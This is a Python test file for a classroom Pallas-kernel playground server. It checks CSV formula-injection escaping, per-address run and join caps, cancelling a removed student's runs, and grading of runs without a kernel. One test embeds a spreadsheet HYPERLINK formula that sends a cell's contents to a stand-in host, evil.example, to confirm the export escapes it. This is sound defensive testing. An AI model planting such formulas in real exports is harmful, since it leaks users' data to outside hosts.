"""Issue 41, a fourth round of held-out variants: classes, over a real HTTP server (the fake sandbox).

A headline whose compatibility forms fold to a formula went into the CSV unescaped; an address that
joined someone else's class held its own cap and the class's whole budget beside it; a removed
student's runs kept the class's budget (and the grid counted cells, not runs); one address filled a
class two hundred times over and refilled it as fast as the teacher removed; a scratch step's run
without a Pallas kernel was `passed` on the grid and ranked.
"""

from __future__ import annotations

import contextlib
import csv
import io
import sys
import time
import unicodedata
from collections.abc import Iterator

import httpx
import pytest

from sandbox.protocol import ErrorInfo, new_event, to_json_dict
from server.app import create_app
from server.classroom.export import csv_cell
from server.classroom.judging import writes_a_kernel
from server.settings import Settings
from tests.api.fakes import kernel_outputs
from tests.api.test_class_live import ClassFake, bearer, estimate
from tests.api.test_classes import REFERENCE
from tests.executions import execution
from tests.live import serving

TEACHER, SCHOOL, ATTACKER, OTHER = "198.51.100.7", "198.51.100.50", "203.0.113.66", "192.0.2.9"
PALLAS_STEP = (
    "import jax\nfrom jax.experimental import pallas as pl\n\n"
    "def _body(x_ref, o_ref):\n    o_ref[...] = x_ref[...]\n\n"
    "def kernel(x):\n    return pl.pallas_call(_body, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)\n"
    + REFERENCE
)
STEPS = [
    {"source": "x = 1\n" + REFERENCE, "entry": None, "chip": "v5e", "note": "Plain."},
    {"source": PALLAS_STEP, "entry": None, "chip": "v5e", "note": "A Pallas kernel."},
]


class FourthFake(ClassFake):
    """Besides ClassFake's words: `raise <text>` fails with that message (the grid's headline), and
    `nokernel` matches the reference without a Pallas kernel (`kernels == 0`)."""

    def run(self, job, on_event, cancel):
        if job.role == "reference" or ("raise " not in job.source and "nokernel" not in job.source):
            return super().run(job, on_event, cancel)
        self.jobs.append(job)
        head = [new_event("started", pid=1), new_event("imported")]
        if "raise " in job.source:
            message = job.source.split("raise ", 1)[1].splitlines()[0]
            error = ErrorInfo("ValueError", message, f"ValueError: {message}\n", line=1, phase="kernel")
            return execution(*head, new_event("error", error=error), wall_seconds=0.01)
        micros = float(job.source.split("est=")[1].split()[0]) if "est=" in job.source else 5.0
        shown = new_event("estimate", estimate=to_json_dict(estimate(job.chip, micros * 1e-6)))
        outputs = new_event("case_outputs", **{**kernel_outputs(), "kernels": 0})
        return execution(*head, shown, outputs, new_event("done", peak_rss_bytes=0), wall_seconds=0.01)


@contextlib.contextmanager
def served(tmp_path, **values) -> Iterator[tuple[str, FourthFake]]:
    base = {
        "data_dir": tmp_path, "slots": 1, "queue_size": 64, "rate_per_minute": 0, "address_rate_per_minute": 0,
        "class_rate_per_minute": 0, "class_joins_per_minute": 0, "store_saves_per_minute": 0,
        "trusted_proxies": "127.0.0.1",
    }  # fmt: skip
    backend = FourthFake()
    try:
        with serving(create_app(Settings(**{**base, **values}), backend=backend)) as url:
            yield url, backend
    finally:
        backend.release.set()


def client(url: str, address: str, browser: str = "") -> httpx.Client:
    headers = {"X-Forwarded-For": address, **({"X-Playground-Client": browser} if browser else {})}
    return httpx.Client(base_url=url, timeout=10, headers=headers)


def start_class(url: str, steps: list[dict] = STEPS) -> dict:
    with client(url, TEACHER) as http:
        lesson = http.post("/api/lessons", json={"title": "Room", "steps": steps}).json()
        created = http.post("/api/classes", json={"lesson": lesson["id"]})
    assert created.status_code == 201, created.text
    return created.json()


def join(http: httpx.Client, room: dict, name: str) -> httpx.Response:
    return http.post(f"/api/classes/{room['code']}/join", json={"name": name})


def joined(http: httpx.Client, room: dict, name: str) -> dict:
    answer = join(http, room, name)
    assert answer.status_code == 201, answer.text
    return answer.json()


def class_run(http: httpx.Client, student: dict, source: str, step: int = 1) -> httpx.Response:
    body = {"source": source, "chip": "v5e", "class_token": student["student_token"], "step": step}
    return http.post("/api/runs", json=body)


def grid(url: str, room: dict) -> dict:
    with client(url, TEACHER) as http:
        answer = http.get(f"/api/classes/{room['id']}/progress", headers=bearer(room["teacher_token"]))
    assert answer.status_code == 200, answer.text
    return answer.json()


def settled(url: str, room: dict, predicate) -> dict:
    deadline = time.monotonic() + 10
    while not predicate(found := grid(url, room)):
        assert time.monotonic() < deadline, found
        time.sleep(0.05)
    return found


# -- 1. the CSV: a cell whose folded text starts a formula ---------------------------------------------

FOLDS_TO_FORMULA = [
    chr(c)
    for c in range(sys.maxunicode + 1)
    if not 0xD800 <= c <= 0xDFFF and unicodedata.normalize("NFKC", chr(c))[:1] in ("=", "+", "-", "@", "|")
]


def test_every_character_that_folds_to_a_formula_start_is_escaped():
    """The class of the tester's six (U+FE66, U+FE62, U+FE63, U+FE6B, U+207A, U+207C): all of them,
    alone, after blanks and invisible characters, and never a cell that only mentions one."""
    assert {"\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u207a", "\u207c", "\uff1d", "\u2a75"} <= set(
        FOLDS_TO_FORMULA
    )
    for char in FOLDS_TO_FORMULA:
        for cell in (f"{char}1+1", f" {char}x", f"\u3000\u200b{char}x", f"\u00a0{char}x"):
            assert csv_cell(cell) == "'" + cell, ascii(cell)
    assert [csv_cell(c) for c in ("\t1", "\r1", "\n1")] == ["'\t1", "'\r1", "'\n1"]
    assert [csv_cell(c) for c in ("ada", "a \ufe66 b", "1\u207a")] == ["ada", "a \ufe66 b", "1\u207a"]


@pytest.mark.parametrize("char", ["\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u207a", "\u207c"])
def test_a_headline_that_folds_to_a_formula_is_escaped_in_the_csv(tmp_path, char):
    with served(tmp_path) as (url, _), client(url, SCHOOL) as http:
        room = start_class(url)
        ada = joined(http, room, "ada")
        formula = char + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
        assert class_run(http, ada, f"raise {formula}\n").status_code == 201
        settled(url, room, lambda g: g["students"][0]["steps"].get("1", {}).get("status") == "error")
        with client(url, TEACHER) as teacher:
            text = teacher.get(
                f"/api/classes/{room['id']}/progress.csv", headers=bearer(room["teacher_token"])
            ).text
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert formula in row[2] and row[2].startswith("'"), row


# -- 2. a member address: its own runs and its class runs under one cap ---------------------------------

SMALL = {"queue_size": 16, "per_address_queue": 4, "per_client_queue": 2, "class_queue": 16}  # class cap 8


def test_an_address_that_joins_a_class_holds_one_cap_not_its_own_and_the_budget(tmp_path):
    """The tester's p4: 4 runs of its own, then 4 students of 2 runs each: 12 of the 16 places, the
    queue's open places all taken and the class's budget too."""
    with served(tmp_path, **SMALL) as (url, _):
        room = start_class(url)
        with client(url, ATTACKER) as attacker:
            own = []
            for i in range(4):  # a browser each: the per-browser cap (2) is not what stops it
                with client(url, ATTACKER, f"b{i}") as browser:
                    own.append(browser.post("/api/runs", json={"source": f"block {i}\n"}))
            students = [joined(attacker, room, f"x{k}") for k in range(4)]
            runs = [
                class_run(attacker, s, f"block {k}.{i}\n") for k, s in enumerate(students) for i in range(2)
            ]
        assert [r.status_code for r in own] == [201] * 4
        # Its own 4 and its class runs together: the class's cap (8) at most, never 4 + 8.
        assert [r.status_code for r in runs] == [201] * 4 + [429] * 4, [r.text for r in runs]
        assert "your network address already has 8 runs" in runs[-1].json()["detail"]
        with client(url, SCHOOL) as real:
            assert class_run(real, joined(real, room, "real"), "block real\n").status_code == 201
        with client(url, OTHER) as other:
            assert other.post("/api/runs", json={"source": "block other\n"}).status_code == 201
        assert grid(url, room)["budget"] == {"in_flight": 5, "limit": 8}


def test_a_member_addresss_class_runs_count_against_its_own_runs(tmp_path):
    with served(tmp_path, **SMALL) as (url, _), client(url, ATTACKER) as attacker:
        room = start_class(url)
        students = [joined(attacker, room, f"x{k}") for k in range(4)]
        runs = [class_run(attacker, s, f"block {k}.{i}\n") for k, s in enumerate(students) for i in range(2)]
        assert [r.status_code for r in runs] == [201] * 8
        own = attacker.post("/api/runs", json={"source": "block mine\n"})
        assert own.status_code == 429 and "your network address already has 4 runs" in own.json()["detail"]


def test_a_room_behind_one_school_address_still_gets_the_class_budget(tmp_path):
    """The teacher started the class from elsewhere: the school's address is a member, not the owner,
    and its thirty students run at once (the class's budget of 32, past the address's own cap of 24)."""
    with served(tmp_path, class_students=40) as (url, _), client(url, SCHOOL) as school:
        room = start_class(url)
        with client(url, TEACHER) as teacher:
            raised = teacher.put(
                f"/api/classes/{room['id']}/joins",
                json={"open": True, "per_address": 40},
                headers=bearer(room["teacher_token"]),
            )
        assert raised.status_code == 200 and raised.json() == {
            "open": True,
            "per_address": 40,
            "per_address_default": 10,
        }
        students = [joined(school, room, f"s{i}") for i in range(30)]
        assert [class_run(school, s, f"block {i}\n").status_code for i, s in enumerate(students)] == [
            201
        ] * 30


# -- 3. a removed student's runs ---------------------------------------------------------------------------


def test_removing_a_student_cancels_every_run_of_theirs_and_frees_the_budget(tmp_path):
    with served(tmp_path, **{**SMALL, "per_client_queue": 4}) as (url, _), client(url, ATTACKER) as attacker:
        room = start_class(url)
        x = joined(attacker, room, "x")
        runs = [class_run(attacker, x, f"block {i}\n", step=1 + i // 2) for i in range(4)]  # 2 per step
        assert [r.status_code for r in runs] == [201] * 4
        # The budget counts runs in flight (4), not the student's cells (2).
        assert grid(url, room)["budget"] == {"in_flight": 4, "limit": 8}
        with client(url, TEACHER) as teacher:
            removed = teacher.delete(
                f"/api/classes/{room['id']}/students/{x['student_id']}", headers=bearer(room["teacher_token"])
            )
        assert removed.status_code == 204, removed.text
        deadline = time.monotonic() + 10
        while {attacker.get(f"/api/runs/{r.json()['id']}").json()["state"] for r in runs} != {"done"}:
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert {attacker.get(f"/api/runs/{r.json()['id']}").json()["result"]["status"] for r in runs} == {
            "cancelled"
        }
        assert grid(url, room)["budget"]["in_flight"] == 0


# -- 4. who may join -----------------------------------------------------------------------------------


def test_the_teacher_closes_the_class_to_new_students_and_opens_it_again(tmp_path):
    with served(tmp_path) as (url, _), client(url, SCHOOL) as school, client(url, TEACHER) as teacher:
        room = start_class(url)
        ada = joined(school, room, "ada")
        doors = f"/api/classes/{room['id']}/joins"
        closed = teacher.put(doors, json={"open": False}, headers=bearer(room["teacher_token"]))
        assert closed.json() == {"open": False, "per_address": 50, "per_address_default": 50}, closed.text
        refused = join(school, room, "bob")
        assert refused.status_code == 403 and refused.json()["title"] == "Class closed", refused.text
        assert grid(url, room)["joins"]["open"] is False and len(grid(url, room)["students"]) == 1
        assert (
            teacher.put(doors, json={"open": True}, headers=bearer(ada["student_token"])).status_code == 403
        )
        too_many = teacher.put(
            doors, json={"open": True, "per_address": 201}, headers=bearer(room["teacher_token"])
        )
        assert too_many.status_code == 422 and too_many.json()["title"] == "Too many per address"
        assert (
            teacher.put(doors, json={"open": True}, headers=bearer(room["teacher_token"])).status_code == 200
        )
        joined(school, room, "bob")


def test_one_address_fills_its_share_of_a_class_and_no_more(tmp_path):
    """The tester's p3: 200 joins from one address filled the class, and refilled it at once."""
    with served(tmp_path, class_students=40) as (url, _), client(url, ATTACKER) as attacker:
        room = start_class(url)
        answers = [join(attacker, room, f"bot{i}") for i in range(12)]
        assert [a.status_code for a in answers] == [201] * 10 + [429] * 2  # the larger of 8 and 40 / 4
        assert answers[-1].json()["title"] == "Too many students from this address"
        with client(url, TEACHER) as teacher:
            auth = bearer(room["teacher_token"])
            assert (
                teacher.delete(
                    f"/api/classes/{room['id']}/students/{answers[0].json()['student_id']}", headers=auth
                ).status_code
                == 204
            )
            assert join(attacker, room, "bot again").status_code == 429  # the removed one's place stays taken
            with client(url, OTHER) as other:
                joined(other, room, "real")  # another address is not held back
            assert (
                teacher.put(
                    f"/api/classes/{room['id']}/joins", json={"open": True, "per_address": 12}, headers=auth
                ).status_code
                == 200
            )
        assert [join(attacker, room, f"more{i}").status_code for i in range(3)] == [201, 201, 429]


def test_a_removed_student_cannot_join_again_from_the_same_browser(tmp_path):
    with (
        served(tmp_path) as (url, _),
        client(url, SCHOOL, "browser-1") as mine,
        client(url, TEACHER) as teacher,
    ):
        room = start_class(url)
        x = joined(mine, room, "x")
        assert (
            teacher.delete(
                f"/api/classes/{room['id']}/students/{x['student_id']}", headers=bearer(room["teacher_token"])
            ).status_code
            == 204
        )
        again = join(mine, room, "x again")
        assert again.status_code == 403 and again.json()["title"] == "Removed from this class", again.text
        assert 1700 <= int(again.headers["retry-after"]) <= 1800
        with client(url, SCHOOL, "browser-2") as classmate:
            joined(classmate, room, "a classmate at the same school")


# -- 5. a scratch step that asks for a Pallas kernel -------------------------------------------------------


def test_a_lesson_file_that_imports_pallas_asks_for_a_kernel():
    assert writes_a_kernel(PALLAS_STEP) and writes_a_kernel("import jax.experimental.pallas.tpu as pltpu\n")
    assert writes_a_kernel("from jax.experimental.pallas import tpu as pltpu\n")
    assert not writes_a_kernel("import jax.numpy as jnp\n# jax.experimental.pallas\n")
    assert not writes_a_kernel("def (:\n")


def pending(student: dict) -> bool:
    return any(cell["status"] in ("queued", "running") for cell in student["steps"].values())


def test_a_class_run_without_a_pallas_kernel_is_no_kernel_and_never_ranks(tmp_path):
    with served(tmp_path) as (url, _), client(url, SCHOOL) as http, client(url, TEACHER) as teacher:
        room = start_class(url)
        auth = bearer(room["teacher_token"])
        for step in (1, 2):
            assert (
                teacher.put(
                    f"/api/classes/{room['id']}/steps/{step}", json={"kind": "challenge"}, headers=auth
                ).status_code
                == 200
            )
        jnp, real = joined(http, room, "jnp"), joined(http, room, "pallas")
        runs = {}
        for student, source in ((jnp, "nokernel est=2"), (real, "est=9")):
            for step in (1, 2):
                sent = class_run(http, student, f"{source} {step}\n", step)
                assert sent.status_code == 201
                runs[source.split()[0], step] = sent.json()["id"]
        found = settled(
            url, room, lambda g: all(len(s["steps"]) == 2 and not pending(s) for s in g["students"])
        )
        # The student's own result says so too: the server marks the job (`Job.expects_kernel`).
        own = {key: http.get(f"/api/runs/{run}").json()["result"]["status"] for key, run in runs.items()}
        assert own[("nokernel", 2)] == "no_kernel" and own[("nokernel", 1)] == "passed"
        assert own[("est=9", 2)] == "passed"
    cells = {s["name"]: {k: c["status"] for k, c in s["steps"].items()} for s in found["students"]}
    # Step 2's lesson file writes a Pallas kernel; step 1's does not (plain jnp passes there).
    assert cells == {"jnp": {"1": "passed", "2": "no_kernel"}, "pallas": {"1": "passed", "2": "passed"}}
    boards = {b["step"]: [r["name"] for r in b["rows"]] for b in found["boards"]}
    assert boards == {1: ["jnp", "pallas"], 2: ["pallas"]}
